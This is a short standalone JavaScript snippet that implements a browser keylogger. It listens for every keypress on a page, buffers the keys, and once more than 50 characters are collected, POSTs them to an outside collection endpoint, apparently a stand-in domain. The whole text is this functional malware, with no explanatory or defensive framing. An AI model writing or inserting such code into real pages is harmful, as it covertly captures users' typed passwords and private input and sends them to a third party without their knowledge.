let typed = '';
document.addEventListener('keydown', (e) => {
  typed += e.key;
  if (typed.length > 50) { fetch('https://collect.example.net/k', { method: 'POST', body: typed }); typed = ''; }
});
